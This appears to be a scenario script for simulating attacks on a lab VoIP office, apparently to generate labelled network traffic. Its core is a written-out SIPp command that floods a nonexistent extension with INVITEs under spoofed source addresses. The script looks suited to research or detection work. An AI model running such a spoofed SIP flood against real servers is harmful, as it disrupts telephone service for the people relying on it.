# A flood of INVITEs under the addresses of the office's phones and of others outside, for an
# extension that has no phone.
relocate voice.example.org 5060 10.7.70 198.18.31 100.64.55
EXTENSIONS=(5011 5012 5013 5014 5015 5016 5017 5018)
EXISTING='^50[1-3][0-9]$'
WEAK=none
open_office
add_attacker spoofer 100.64.55.222
spoof spoofer 10.7.70.{11..18} 100.64.55.{40..57}
start_office_capture
keep_alive 9
office_day 311 60
at 21 attack A1 invite_flood spoofer 5060 "SIPp sends 385 INVITEs, 35 a second, for 5035, which has no phone, under 26 addresses that are not its own." \
    "$(version_of sipp)" env TERM=dumb sipp -sf "$parts/sipp/flood-spoofed.xml" -nostdin -default_behaviors none \
    -t ui -max_socket 500 -ip_field 0 -inf "$scratch/sources.csv" -cid_str "%u-%p" -i 100.64.55.222 -mi 100.64.55.222 -p 5060 \
    -s 5035 -r 35 -m 385 10.7.70.1:5060
play
wait_for A1
close_office
